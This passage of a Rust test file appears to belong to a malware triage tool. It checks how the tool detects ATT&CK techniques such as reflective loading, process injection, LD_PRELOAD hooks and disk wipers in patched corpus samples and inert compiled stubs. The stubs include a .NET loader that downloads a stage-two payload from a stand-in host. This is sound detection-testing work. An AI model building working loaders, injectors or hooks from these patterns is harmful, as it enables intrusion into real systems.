        net.typelib.as_deref(),
        Some("0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0")
    );
    assert!(
        net.mvid.as_ref().is_some_and(|m| m.len() == 36),
        "{:?}",
        net.mvid
    );
    assert!(net.references.iter().any(|r| r.starts_with("mscorlib ")));
    assert!(net.types.iter().any(|x| x == "Inert.Loader.Stage"));
    assert!(net.methods.iter().any(|x| x == "Inert.Loader.Stage::Main"));
    assert!(net
        .member_refs
        .iter()
        .any(|m| m == "System.Net.WebClient::DownloadData"));
    assert_eq!(net.pinvoke, ["kernel32.dll!VirtualAlloc"]);
    assert!(net
        .user_strings
        .iter()
        .any(|s| s == "http://payload.example.com/stage2.bin"));
    // Behaviours through the same table as native imports.
    let cat = |name: &str| {
        t.behavior
            .categories
            .iter()
            .find(|c| c.name == name)
            .map(|c| c.imports.clone())
            .unwrap_or_default()
    };
    assert!(cat("network").iter().any(|i| i.ends_with("!DownloadData")));
    assert!(cat("memory").iter().any(|i| i.ends_with("!Load")));
    assert!(cat("memory")
        .iter()
        .any(|i| i == "kernel32.dll!VirtualAlloc"));
    assert!(cat("process").iter().any(|i| i.ends_with("!Start")));
    assert!(cat("registry").iter().any(|i| i.ends_with("!SetValue")));
    assert!(cat("crypto").iter().any(|i| i.ends_with("!.ctor")));
    let ids: Vec<&str> = t.techniques.iter().map(|x| x.id.as_str()).collect();
    for id in ["T1105", "T1547.001", "T1620"] {
        assert!(ids.contains(&id), "{id} missing from {ids:?}");
    }
    assert!(t.toolchains.iter().any(|x| x.name == "dotnet"));
    // .NET names are not domains; the real one stays.
    let domains: Vec<&str> = t
        .iocs
        .iter()
        .filter(|i| i.kind == spoor::ioc::IocKind::Domain)
        .map(|i| i.value.as_str())
        .collect();
    assert!(domains.contains(&"payload.example.com"), "{domains:?}");
    for name in ["system.net", "system.net.http", "inert.loader"] {
        assert!(!domains.contains(&name), "{name} in {domains:?}");
    }
}

/// Loading an assembly by name (`Assembly.Load(string)`, `AppDomain.Load(AssemblyName)`:
/// plug-ins, `System.Drawing`'s type converters) is no reflective code loading: the member
/// references name the overload, and T1620 needs `Load(byte[])` (the other test).
#[test]
fn dotnet_loads_by_name_are_no_reflective_code_loading() {
    const SOURCE: &str = r#"
using System;
using System.Reflection;

namespace Inert.Plugins {
  public static class Host {
    public static int Main(string[] args) {
      if (args.Length != 6) return 0;
      var a = Assembly.Load("Inert.Plugin.Spell");
      var b = AppDomain.CurrentDomain.Load(new AssemblyName("Inert.Plugin.Grammar"));
      var c = Activator.CreateInstance(a.GetType("Inert.Plugin.Spell.Checker"));
      a.EntryPoint.Invoke(null, null);
      return b.GetHashCode() + c.GetHashCode();
    }
  }
}
"#;
    let Some(data) = compiled_cs("dotnet-loads-by-name", "host", SOURCE) else {
        return;
    };
    let t = sample::triage("host.exe", &data);
    let net =
        t.pe.as_ref()
            .and_then(|p| p.dotnet.as_ref())
            .expect(".NET facts");
    for m in [
        "System.Reflection.Assembly::Load(string)",
        "System.AppDomain::Load(System.Reflection.AssemblyName)",
    ] {
        assert!(
            net.member_refs.iter().any(|r| r == m),
            "{m} in {:?}",
            net.member_refs
        );
    }
    assert!(
        !net.member_refs.iter().any(|r| r.ends_with("::Load")),
        "{:?}",
        net.member_refs
    );
    let ids: Vec<&str> = t.techniques.iter().map(|x| x.id.as_str()).collect();
    assert!(!ids.contains(&"T1620"), "{ids:?}");
}

/// mingw's section names and symbol table: a `/N` name is read from the COFF string table
/// (`.debug_info`); text in debugging information or in the symbol table is no behaviour
/// evidence (it names the source's variables), while the same text in an overlay is; and a
/// `/` name that points nowhere (which goblin rejects) leaves the rest of the PE readable.
#[test]
fn section_names_and_symbol_tables_as_mingw_writes_them() {
    let data = std::fs::read(root().join("corpus/malicious/ashdrop/ashdrop_v1_x64.exe"))
        .expect("corpus sample");
    let u16_at = |at: usize| usize::from(u16::from_le_bytes([data[at], data[at + 1]]));
    let pe = u32::from_le_bytes(data[0x3c..0x40].try_into().expect("4 bytes")) as usize;
    let header = |i: usize| pe + 24 + u16_at(pe + 20) + i * 40;
    let base = sample::triage("base", &data);
    let rdata = base
        .sections
        .iter()
        .position(|s| s.name == ".rdata")
        .expect(".rdata");
    let rdata_range = (
        base.sections[rdata].raw_offset,
        base.sections[rdata].raw_size,
    );
    let in_rdata = |o: u64| o >= rdata_range.0 && o - rdata_range.0 < rdata_range.1;
    let offsets = |t: &spoor::findings::triage::Triage| -> Vec<u64> {
        t.techniques
            .iter()
            .flat_map(|x| &x.evidence)
            .filter_map(|e| e.offset)
            .collect()
    };
    let values = |t: &spoor::findings::triage::Triage| -> Vec<String> {
        t.techniques
            .iter()
            .flat_map(|x| &x.evidence)
            .map(|e| e.value.clone())
            .collect()
    };
    assert!(
        offsets(&base).into_iter().any(in_rdata),
        "base: evidence in .rdata"
    );

    // a name goblin rejects: read as written, everything else as before
    let mut odd = data.clone();
    odd[header(rdata)..header(rdata) + 8].copy_from_slice(b"/abc\0\0\0\0");
    let t = sample::triage("odd", &odd);
    assert_eq!(t.sections.len(), base.sections.len());
    assert_eq!(t.sections[rdata].name, "/abc");
    assert_eq!(t.sections[rdata].long_name, None);
    assert_eq!(
        t.pe.as_ref().map(|p| &p.imphash),
        base.pe.as_ref().map(|p| &p.imphash)
    );
    assert_eq!(t.techniques, base.techniques);
    assert!(
        t.warnings.iter().any(|w| w.message.contains("(/abc)")),
        "{:?}",
        t.warnings
    );

    // the same bytes appended: an overlay, then a string table the header points to
    let table = b"\0\0\0\0.debug_info\0xor_keys\0";
    let mut overlay = data.clone();
    overlay.extend_from_slice(table);
    let t = sample::triage("overlay", &overlay);
    assert!(
        values(&t).iter().any(|v| v.contains("xor_keys")),
        "{:?}",
        values(&t)
    );

    let mut symbols = overlay.clone();
    let size = (table.len() as u32).to_le_bytes();
    symbols[data.len()..data.len() + 4].copy_from_slice(&size);
    symbols[pe + 12..pe + 16].copy_from_slice(&(data.len() as u32).to_le_bytes());
    symbols[pe + 16..pe + 20].copy_from_slice(&0u32.to_le_bytes());
    symbols[header(rdata)..header(rdata) + 8].copy_from_slice(b"/4\0\0\0\0\0\0");
    let t = sample::triage("symbols", &symbols);
    assert_eq!(t.sections[rdata].long_name.as_deref(), Some(".debug_info"));
    assert_eq!(t.sections[rdata].shown_name(), ".debug_info (/4)");
    assert_eq!(
        t.pe.as_ref().and_then(|p| p.symbol_table),
        Some((data.len() as u64, table.len() as u64))
    );
    let evidence = offsets(&t);
    assert!(
        !evidence
            .iter()
            .any(|&o| in_rdata(o) || o >= data.len() as u64),
        "{:?}",
        t.techniques
    );
    // the IOCs are all still there, the debugging section named by its long name
    assert_eq!(t.iocs.len(), base.iocs.len());
    assert!(t.iocs.iter().any(|i| i
        .sightings
        .iter()
        .any(|s| s.section.as_deref() == Some(".debug_info"))));
}

/// An API a module imports and exports under one name (wine's `kernel32.dll` over
/// `kernelbase.dll`, a hooking library) is one it wraps: no behaviour evidence, while the
/// import list keeps it; and its own export names are no APIs resolved at run time.
#[test]
fn apis_a_module_also_exports_are_wrapped_not_used() {
    let data = std::fs::read(root().join("corpus/malicious/shroud/shroud_v3_x64.dll"))
        .expect("corpus sample");
    let sleep_used = |t: &spoor::findings::triage::Triage| {
        t.behavior
            .categories
            .iter()
            .any(|c| c.imports.iter().any(|i| i.contains("Sleep")))
    };
    let base = sample::triage("base", &data);
    assert!(sleep_used(&base), "{:?}", base.behavior.categories);
    // the export `Start` renamed `Sleep`, which the DLL imports from kernel32
    let at = data
        .windows(24)
        .position(|w| w == b"shroud_v3_x64.dll\0Start\0")
        .expect("export name")
        + 18;
    let mut wrapper = data.clone();
    wrapper[at..at + 5].copy_from_slice(b"Sleep");
    let t = sample::triage("wrapper", &wrapper);
    assert_eq!(
        t.pe.as_ref().map(|p| p.exports.clone()),
        Some(vec!["Sleep".to_string()])
    );
    assert!(t.imports.iter().any(|i| i.name.as_deref() == Some("Sleep")));
    assert!(!sleep_used(&t), "{:?}", t.behavior.categories);

    // an API name as a string is resolved at run time, but not as the module's own export
    let resolved = |t: &spoor::findings::triage::Triage| {
        t.behavior.dynamic_apis.iter().any(|d| d.name == "WinExec")
    };
    let mut string = data.clone();
    string.extend_from_slice(b"\0WinExec\0");
    assert!(resolved(&sample::triage("string", &string)));
    assert_eq!(&data[at + 5..at + 8], b"\0\0\0", "padding after the name");
    let mut export = data.clone();
    export[at..at + 8].copy_from_slice(b"WinExec\0");
    let t = sample::triage("export", &export);
    assert_eq!(
        t.pe.as_ref().map(|p| p.exports.clone()),
        Some(vec!["WinExec".to_string()])
    );
    assert!(!resolved(&t), "{:?}", t.behavior.dynamic_apis);
}

/// A DLL that exports a broad slice of the Windows API implements it with the layer below,
/// as wine's `kernelbase.dll` does over `ntdll.dll`: its ntdll imports of the categories it
/// exports (injection, anti-debug) are no techniques, while the import list keeps them. The
/// same code exporting only the five functions it implements (fewer than a layer) keeps
/// T1055 and T1622. Compiled with mingw-w64 (inert: nothing calls the exports).
#[test]
fn an_api_layers_imports_are_how_it_implements_its_exports() {
    if !mingw_on_path("the API layer DLL") {
        return;
    }
    const SOURCE: &str = r#"
typedef long NTSTATUS;
__declspec(dllimport) NTSTATUS __stdcall NtWriteVirtualMemory(void *, void *, const void *, unsigned long long, unsigned long long *);
__declspec(dllimport) NTSTATUS __stdcall NtAllocateVirtualMemory(void *, void **, unsigned long long, unsigned long long *, unsigned long, unsigned long);
__declspec(dllimport) NTSTATUS __stdcall RtlCreateUserThread(void *, void *, int, unsigned long, unsigned long long, unsigned long long, void *, void *, void *, void *);
__declspec(dllimport) NTSTATUS __stdcall NtQueryInformationProcess(void *, int, void *, unsigned long, unsigned long *);
__declspec(dllimport) NTSTATUS __stdcall NtSetInformationThread(void *, int, void *, unsigned long);
__declspec(dllexport) int WriteProcessMemory(void *p, void *a) { return NtWriteVirtualMemory(p, a, a, 1, 0); }
__declspec(dllexport) int VirtualAllocEx(void *p, void *a) { return NtAllocateVirtualMemory(p, &a, 0, 0, 0x1000, 4); }
__declspec(dllexport) int CreateRemoteThread(void *p, void *a) { return RtlCreateUserThread(p, 0, 0, 0, 0, 0, a, 0, 0, 0); }
__declspec(dllexport) int CheckRemoteDebuggerPresent(void *p, void *a) { return NtQueryInformationProcess(p, 7, a, 8, 0); }
__declspec(dllexport) int IsDebuggerPresent(void *p, void *a) { return NtSetInformationThread(p, 17, a, 0); }
#ifdef LAYER
#define API(name) __declspec(dllexport) int name(void *a, void *b) { return (int)(long long)a + (int)(long long)b; }
API(RegOpenKeyExW) API(RegSetValueExW) API(RegQueryValueExW) API(RegCreateKeyExW) API(RegDeleteKeyW)
API(RegEnumKeyExW) API(RegDeleteValueW) API(RegEnumValueW) API(CreateFileW) API(ReadFile)
API(DeleteFileW) API(CopyFileW) API(MoveFileExW) API(FindFirstFileW) API(FindNextFileW)
#endif
"#;
    let build = |define: &str| ntdll_dll("api-layer", SOURCE, define);
    let five = build("FIVE");
    assert_eq!(five.pe.as_ref().map_or(0, |p| p.exports.len()), 5);
    let layer = build("LAYER");
    assert_eq!(layer.pe.as_ref().map_or(0, |p| p.exports.len()), 20);
    layer_imports_are_no_behaviour(&five, &layer);
}

/// Whether mingw-w64's C compiler is here to build a test DLL (`what`); without it the
/// test is skipped, unless `SPOOR_REQUIRE_CORPUS_BUILD` asks for every build.
fn mingw_on_path(what: &str) -> bool {
    if super::corpus::on_path("x86_64-w64-mingw32-gcc") {
        return true;
    }
    assert!(
        std::env::var_os("SPOOR_REQUIRE_CORPUS_BUILD").is_none(),
        "SPOOR_REQUIRE_CORPUS_BUILD is set but x86_64-w64-mingw32-gcc is not on PATH"
    );
    eprintln!("note: x86_64-w64-mingw32-gcc is not on PATH; skipping {what}");
    false
}

/// Builds `source` with `-D{define}` as a DLL linked with `ntdll` (under a folder of its
/// own, `dir`) and triages it.
fn ntdll_dll(dir: &str, source: &str, define: &str) -> spoor::findings::triage::Triage {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(dir);
    std::fs::create_dir_all(&dir).expect("dir");
    let c = dir.join("dll.c");
    std::fs::write(&c, source).expect("source");
    let out = dir.join(format!("{define}.dll"));
    let status = std::process::Command::new("x86_64-w64-mingw32-gcc")
        .args(["-O2", "-shared", &format!("-D{define}")])
        .arg("-o")
        .arg(&out)
        .arg(&c)
        .args(["-lntdll", "-Wl,--no-insert-timestamp"])
        .status()
        .expect("x86_64-w64-mingw32-gcc runs");
    assert!(status.success(), "x86_64-w64-mingw32-gcc -D{define}");
    sample::triage(define, &std::fs::read(&out).expect("dll"))
}

/// The ATT&CK techniques triage found.
fn technique_ids(t: &spoor::findings::triage::Triage) -> Vec<String> {
    t.techniques.iter().map(|x| x.id.clone()).collect()
}

/// A module importing a hundred and more system calls passes calls on (wine's
/// `wow64.dll` imports 212): its `Nt*` imports are no techniques, while the import list
/// keeps them. The same code with its five injection and anti-debug calls alone keeps
/// T1055 and T1622. Compiled with mingw-w64 (inert: nothing calls the exports).
#[test]
fn a_system_call_layers_imports_are_how_it_passes_calls_on() {
    if !mingw_on_path("the system-call layer DLL") {
        return;
    }
    const CALLS: &str = "NtAccessCheck NtAccessCheckAndAuditAlarm NtAddAtom \
        NtAdjustPrivilegesToken NtAlertResumeThread NtAlertThread NtAlertThreadByThreadId \
        NtAllocateLocallyUniqueId NtAllocateUuids NtAreMappedFilesTheSame \
        NtAssignProcessToJobObject NtCancelIoFile NtCancelSynchronousIoFile NtCancelTimer \
        NtClearEvent NtClose NtCompareObjects NtCompleteConnectPort NtCreateDebugObject \
        NtCreateDirectoryObject NtCreateEvent NtCreateFile NtCreateIoCompletion \
        NtCreateJobObject NtCreateKey NtCreateKeyTransacted NtCreateKeyedEvent \
        NtCreateMailslotFile NtCreateMutant NtCreateNamedPipeFile NtCreatePagingFile \
        NtCreatePort NtCreateSection NtCreateSemaphore NtCreateSymbolicLinkObject \
        NtCreateTimer NtCreateUserProcess NtDebugActiveProcess NtDebugContinue \
        NtDelayExecution NtDeleteAtom NtDeleteFile NtDeleteKey NtDeleteValueKey \
        NtDeviceIoControlFile NtDisplayString NtDuplicateObject NtDuplicateToken \
        NtEnumerateKey NtEnumerateValueKey NtFilterToken NtFindAtom NtFlushBuffersFile \
        NtFlushInstructionCache NtFlushKey NtFlushProcessWriteBuffers NtFlushVirtualMemory \
        NtFreeVirtualMemory NtFsControlFile NtGetCurrentProcessorNumber NtGetNextThread \
        NtGetNlsSectionPtr NtGetWriteWatch NtImpersonateAnonymousToken NtInitializeNlsFiles \
        NtInitiatePowerAction NtIsProcessInJob NtLoadDriver NtLoadKey NtLoadKey2 NtLockFile \
        NtLockVirtualMemory NtMakeTemporaryObject NtMapViewOfSection \
        NtNotifyChangeDirectoryFile NtNotifyChangeKey NtNotifyChangeMultipleKeys \
        NtOpenDirectoryObject NtOpenEvent NtOpenFile NtOpenIoCompletion NtOpenJobObject \
        NtOpenKey NtOpenKeyTransacted NtOpenKeyedEvent NtOpenMutant NtOpenProcess \
        NtOpenProcessToken NtOpenSection NtOpenSemaphore NtOpenSymbolicLinkObject \
        NtOpenThread NtOpenThreadToken NtOpenTimer NtPowerInformation NtPrivilegeCheck \
        NtProtectVirtualMemory NtPulseEvent NtQueryAttributesFile NtQueryDefaultLocale";
    let calls: Vec<&str> = CALLS.split_whitespace().collect();
    assert_eq!(calls.len(), 100);
    let mut source = String::from(
        r#"
typedef long NTSTATUS;
__declspec(dllimport) NTSTATUS __stdcall NtWriteVirtualMemory(void *, void *, const void *, unsigned long long, unsigned long long *);
__declspec(dllimport) NTSTATUS __stdcall NtAllocateVirtualMemory(void *, void **, unsigned long long, unsigned long long *, unsigned long, unsigned long);
__declspec(dllimport) NTSTATUS __stdcall NtQueryInformationProcess(void *, int, void *, unsigned long, unsigned long *);
__declspec(dllimport) NTSTATUS __stdcall NtSetInformationThread(void *, int, void *, unsigned long);
__declspec(dllimport) NTSTATUS __stdcall NtCreateThreadEx(void **, unsigned long, void *, void *, void *, void *, unsigned long, unsigned long long, unsigned long long, unsigned long long, void *);
__declspec(dllexport) int Start(void *p, void *a) { return NtCreateThreadEx(&a, 0, 0, p, a, 0, 0, 0, 0, 0, 0); }
__declspec(dllexport) int Write(void *p, void *a) { return NtWriteVirtualMemory(p, a, a, 1, 0); }
__declspec(dllexport) int Alloc(void *p, void *a) { return NtAllocateVirtualMemory(p, &a, 0, 0, 0x1000, 4); }
__declspec(dllexport) int Query(void *p, void *a) { return NtQueryInformationProcess(p, 7, a, 8, 0); }
__declspec(dllexport) int Hide(void *p, void *a) { return NtSetInformationThread(p, 17, a, 0); }
#ifdef LAYER
"#,
    );
    for call in &calls {
        source.push_str(&format!(
            "__declspec(dllimport) NTSTATUS __stdcall {call}(void);\n"
        ));
    }
    source.push_str("__declspec(dllexport) void *Call(int i) {\n    void *calls[] = {");
    source.push_str(&calls.join(", "));
    source.push_str(&format!(
        "}};\n    return calls[i % {}];\n}}\n#endif\n",
        calls.len()
    ));
    let five = ntdll_dll("syscall-layer", &source, "FIVE");
    let layer = ntdll_dll("syscall-layer", &source, "LAYER");
    assert!(layer.imports.len() >= 105, "{}", layer.imports.len());
    layer_imports_are_no_behaviour(&five, &layer);
}

/// `five` (a DLL importing five injection and anti-debug calls of `ntdll.dll`) has T1055
/// and T1622; `layer` (the same calls in a layer) has neither, nor T1055.001 or T1106,
/// keeps the imports listed, and lists no names of its import table as functions resolved
/// at run time.
fn layer_imports_are_no_behaviour(
    five: &spoor::findings::triage::Triage,
    layer: &spoor::findings::triage::Triage,
) {
    for id in ["T1055", "T1622"] {
        assert!(
            technique_ids(five).contains(&id.to_string()),
            "{:?}",
            technique_ids(five)
        );
    }
    for id in ["T1055", "T1055.001", "T1106", "T1622"] {
        assert!(
            !technique_ids(layer).contains(&id.to_string()),
            "{:?}",
            technique_ids(layer)
        );
    }
    let imported = |t: &spoor::findings::triage::Triage| {
        t.imports
            .iter()
            .any(|i| i.name.as_deref() == Some("NtWriteVirtualMemory"))
    };
    assert!(imported(layer) && imported(five));
    assert!(
        layer.behavior.dynamic_apis.is_empty(),
        "{:?}",
        layer.behavior.dynamic_apis
    );
}

/// An ELF shared object that exports the C library's directory functions and imports
/// `dlsym` is an LD_PRELOAD hook (T1574.006, medium, the exports and the import as
/// evidence); with one of the two missing it is not. `burrow_v3_x86_64.so` patched: its
/// exports renamed `readdir` and `opendir`, its import `prctl` renamed `dlsym`, and its
/// `/etc/ld.so.preload` string spoiled so that the string rule of the same technique does
/// not fire.
#[test]
fn preload_hooks_of_libc_functions() {
    let data = std::fs::read(root().join("corpus/malicious/burrow/burrow_v3_x86_64.so"))
        .expect("corpus sample");
    let patch = |data: &mut Vec<u8>, from: &[u8], to: &[u8]| {
        assert!(to.len() <= from.len());
        let at = data
            .windows(from.len() + 2)
            .position(|w| w[0] == 0 && &w[1..=from.len()] == from && w[from.len() + 1] == 0)
            .expect("name in the sample")
            + 1;
        data[at..at + from.len()].fill(0);
        data[at..at + to.len()].copy_from_slice(to);
    };
    let hook = |t: &spoor::findings::triage::Triage| {
        t.techniques
            .iter()
            .find(|t| t.id == "T1574.006")
            .map(|t| (t.confidence, t.evidence.clone()))
    };
    let mut base = data.clone();
    patch(&mut base, b"/etc/ld.so.preload", b"/etc/ld.so.prelaod");
    assert_eq!(hook(&sample::triage("base", &base)), None);

    let mut exports = base.clone();
    patch(&mut exports, b"burrow_start", b"readdir");
    patch(&mut exports, b"burrow_hide_entry", b"opendir");
    let t = sample::triage("exports", &exports);
    assert_eq!(
        t.elf.as_ref().map(|e| e.exports.clone()),
        Some(vec!["opendir".to_string(), "readdir".to_string()])
    );
    assert_eq!(hook(&t), None, "no dlsym: not a hook");

    let mut hooked = exports.clone();
    patch(&mut hooked, b"prctl", b"dlsym");
    let (confidence, evidence) = hook(&sample::triage("hooked", &hooked)).expect("T1574.006");
    assert_eq!(confidence, spoor::findings::Confidence::Medium);
    let shown: Vec<(&str, &str)> = evidence
        .iter()
        .map(|e| (e.kind.as_str(), e.value.as_str()))
        .collect();
    assert!(shown.contains(&("export", "readdir")), "{shown:?}");
    assert!(shown.contains(&("export", "opendir")), "{shown:?}");
    assert!(
        shown
            .iter()
            .any(|&(k, v)| k == "import" && v.ends_with("dlsym")),
        "{shown:?}"
    );

    // dlsym with one such export only: not enough
    let mut one = base.clone();
    patch(&mut one, b"burrow_start", b"readdir");
    patch(&mut one, b"prctl", b"dlsym");
    assert_eq!(hook(&sample::triage("one", &one)), None);
}

/// An ELF shared object that exports Windows API functions implements them (wine's
/// `ntdll.so`, the Unix side of its `ntdll.dll`): the names its dynamic string table spells
/// are no functions it resolves at run time. The same names as strings of its own data
/// are (T1055 and T1622). Built with the host's C compiler (inert: nothing calls them).
#[test]
fn an_elf_exporting_the_windows_api_implements_it() {
    if !super::corpus::on_path("cc") {
        eprintln!("note: cc is not on PATH; skipping the ELF Windows API layer");
        return;
    }
    const SOURCE: &str = r#"
#ifdef LAYER
#define F(name) int name(void *a) { return a != 0; }
#else
#define F(name) const char *const name##_text = #name;
#endif
F(NtWriteVirtualMemory) F(NtAllocateVirtualMemory) F(NtMapViewOfSection)
F(NtCreateThreadEx) F(NtQueryInformationProcess) F(NtSetInformationThread)
"#;
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("elf-api-layer");
    std::fs::create_dir_all(&dir).expect("dir");
    let c = dir.join("layer.c");
    std::fs::write(&c, SOURCE).expect("source");
    let build = |define: &str| {
        let out = dir.join(format!("{define}.so"));
        let status = std::process::Command::new("cc")
            .args(["-O2", "-shared", "-fPIC", &format!("-D{define}")])
            .arg("-o")
            .arg(&out)
            .arg(&c)
            .status()
            .expect("cc runs");
        assert!(status.success(), "cc -D{define}");
        sample::triage(define, &std::fs::read(&out).expect("shared object"))
    };
    let strings = build("STRINGS");
    for id in ["T1055", "T1622"] {
        assert!(
            technique_ids(&strings).contains(&id.to_string()),
            "{:?}",
            technique_ids(&strings)
        );
    }
    let layer = build("LAYER");
    assert!(
        layer
            .elf
            .as_ref()
            .is_some_and(|e| e.exports.iter().any(|n| n == "NtWriteVirtualMemory")),
        "{:?}",
        layer.elf
    );
    for id in ["T1055", "T1622"] {
        assert!(
            !technique_ids(&layer).contains(&id.to_string()),
            "{:?}",
            technique_ids(&layer)
        );
    }
    assert!(
        layer.behavior.dynamic_apis.is_empty(),
        "{:?}",
        layer.behavior.dynamic_apis
    );
}

/// The words of a data table a library embeds (Brotli's dictionary, found by its first
/// bytes) are no indicators, no behaviour strings and no listed strings, in triage and in
/// `spoor extract`; the same names past the table's end are.
#[test]
fn names_inside_brotlis_dictionary_are_not_indicators() {
    use spoor::extract::{ExtractOptions, Extractor};
    let base = std::fs::read(root().join("corpus/malicious/shroud/shroud_v1_x64.exe"))
        .expect("corpus sample");
    let table = spoor::tables::embedded_tables()
        .iter()
        .find(|t| t.name == "brotli-dictionary")
        .expect("the table");
    let mut data = base.clone();
    data.extend_from_slice(b"\0\0");
    let start = data.len();
    data.extend_from_slice(&table.start);
    data.extend_from_slice(b"\0people.in\0the.com\0log.com\0");
    data.resize(start + table.len as usize, 0);
    data.extend_from_slice(b"\0beacon.example.net\0people.in\0");
    // the indicators in the appended bytes (the sample's own come before them)
    let values = |iocs: Vec<(String, u64)>| -> Vec<(String, u64)> {
        let mut v: Vec<(String, u64)> = iocs
            .into_iter()
            .filter(|&(_, at)| at >= start as u64)
            .collect();
        v.sort();
        v
    };
    let after = (start + table.len as usize) as u64;
    let t = sample::triage("packed.exe", &data);
    let found = values(
        t.iocs
            .iter()
            .flat_map(|i| i.sightings.iter().map(|s| (i.value.clone(), s.offset)))
            .collect(),
    );
    assert_eq!(
        found,
        [
            ("beacon.example.net".to_string(), after + 1),
            ("people.in".to_string(), after + 20)
        ]
    );
    assert!(t.strings.iter().all(|s| !s.value.contains("the.com")));
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("brotli-table");
    std::fs::create_dir_all(&dir).expect("dir");
    let path = dir.join("packed.exe");
    std::fs::write(&path, &data).expect("write");
    let extraction = Extractor::new(ExtractOptions::default()).extract_paths(&[path]);
    let found = values(
        extraction
            .iocs
            .iter()
            .flat_map(|i| {
                i.sightings
                    .iter()
                    .map(|s| (i.value.clone(), s.offset.unwrap_or(0)))
            })
            .collect(),
    );
    assert_eq!(
        found,
        [
            ("beacon.example.net".to_string(), after + 1),
            ("people.in".to_string(), after + 20)
        ]
    );
}

/// A Python extension module (it exports `PyInit_<module>`) whose argument formats name an
/// API (`OOnOOk:CreateRemoteThread`, as pywin32's `win32process` binds it for scripts)
/// hands that API to Python: neither its import nor its name is behaviour evidence. The
/// same format in any other module, or a Python module that names no API, changes nothing.
#[test]
fn apis_a_python_extension_binds_are_not_its_behaviour() {
    let data = std::fs::read(root().join("corpus/malicious/shroud/shroud_v3_x64.dll"))
        .expect("corpus sample");
    let uses = |t: &spoor::findings::triage::Triage, api: &str| {
        t.behavior
            .categories
            .iter()
            .any(|c| c.imports.iter().any(|i| i.contains(api)))
            || t.behavior.dynamic_apis.iter().any(|d| d.name == api)
    };
    let at = data
        .windows(24)
        .position(|w| w == b"shroud_v3_x64.dll\0Start\0")
        .expect("export name")
        + 18;
    assert_eq!(&data[at + 5..at + 8], b"\0\0\0", "padding after the name");
    let python = |mut d: Vec<u8>| {
        d[at..at + 8].copy_from_slice(b"PyInit_\0");
        d
    };
    let mut formats = data.clone();
    formats.extend_from_slice(b"\0Ok|O:Sleep\0OOs#:WinExec\0WinExec\0");

    // a native module with those strings: Sleep imported, WinExec resolved at run time
    let t = sample::triage("native", &formats);
    assert!(uses(&t, "Sleep") && uses(&t, "WinExec"), "{:?}", t.behavior);
    // a Python module without them still uses Sleep
    let t = sample::triage("python", &python(data.clone()));
    assert_eq!(
        t.pe.as_ref().map(|p| p.exports.clone()),
        Some(vec!["PyInit_".to_string()])
    );
    assert!(uses(&t, "Sleep"), "{:?}", t.behavior.categories);
    // a Python module binding both: neither is its behaviour; the import list keeps Sleep
    let t = sample::triage("binding", &python(formats));
    assert!(
        !uses(&t, "Sleep") && !uses(&t, "WinExec"),
        "{:?}",
        t.behavior
    );
    assert!(t.imports.iter().any(|i| i.name.as_deref() == Some("Sleep")));
}

/// Names in an ELF file's static symbol table (`.strtab`, not loaded) are the functions
/// the file was built from, a statically linked OpenSSL's `EVP_EncryptInit_ex` among them:
/// not APIs resolved at run time. The same names in another unloaded section (`.comment`)
/// count, and so do they in a section named `.strtab` that is loaded.
#[test]
fn elf_symbol_names_are_not_apis_resolved_at_run_time() {
    let data = std::fs::read(root().join("corpus/malicious/burrow/burrow_v1_x86_64"))
        .expect("corpus sample");
    let elf = goblin::elf::Elf::parse(&data).expect("ELF");
    let (index, comment) = elf
        .section_headers
        .iter()
        .enumerate()
        .find(|(_, h)| elf.shdr_strtab.get_at(h.sh_name) == Some(".comment"))
        .expect(".comment");
    let (at, len) = (comment.sh_offset as usize, comment.sh_size as usize);
    let name_at =
        elf.section_headers[elf.header.e_shstrndx as usize].sh_offset as usize + comment.sh_name;
    let flags_at = elf.header.e_shoff as usize + index * elf.header.e_shentsize as usize + 8;
    assert_eq!(comment.sh_flags & 2, 0, "not loaded");
    let names = b"EVP_EncryptInit_ex\0CreateRemoteThread\0";
    assert!(names.len() <= len);
    let mut named = data.clone();
    named[at..at + len].fill(0);
    named[at..at + names.len()].copy_from_slice(names);
    let resolved = |d: &[u8]| -> Vec<String> {
        let t = sample::triage("elf", d);
        t.behavior
            .dynamic_apis
            .iter()
            .map(|a| a.name.clone())
            .collect()
    };
    let both = ["EVP_EncryptInit_ex", "CreateRemoteThread"];
    assert_eq!(resolved(&named), both);

    let mut symbols = named.clone();
    symbols[name_at..name_at + 9].copy_from_slice(b".strtab\0\0");
    assert!(resolved(&symbols).is_empty(), "{:?}", resolved(&symbols));

    let mut loaded = symbols.clone();
    loaded[flags_at] |= 2; // SHF_ALLOC
    assert_eq!(resolved(&loaded), both);
}

/// A wiper writes: a disk named and queried (`\\.\PhysicalDrive%d` and `DeviceIoControl`,
/// as psutil reads its I/O counters) is no wiper; with a write it is one.
#[test]
fn a_disk_named_and_queried_is_no_wiper_without_a_write() {
    let data = std::fs::read(root().join("corpus/malicious/shroud/shroud_v3_x64.dll"))
        .expect("corpus sample");
    let at = data
        .windows(18)
        .position(|w| w == b"IsDebuggerPresent\0")
        .expect("import name");
    // the import IsDebuggerPresent renamed DeviceIoControl
    let mut query = data.clone();
    query[at..at + 17].copy_from_slice(b"DeviceIoControl\0\0");
    query.extend_from_slice(b"\0\\\\.\\PhysicalDrive%d\0");
    let classes = |d: &[u8]| -> Vec<String> {
        let t = sample::triage("disk", d);
        assert!(
            t.imports
                .iter()
                .any(|i| i.name.as_deref() == Some("DeviceIoControl")),
            "{:?}",
            t.imports
        );
        t.classes.iter().map(|c| c.class.clone()).collect()
    };
    assert!(classes(&query).is_empty(), "{:?}", classes(&query));
    let mut write = query.clone();
    write.extend_from_slice(b"\0WriteFile\0");
    assert_eq!(classes(&write), ["wiper"]);
}
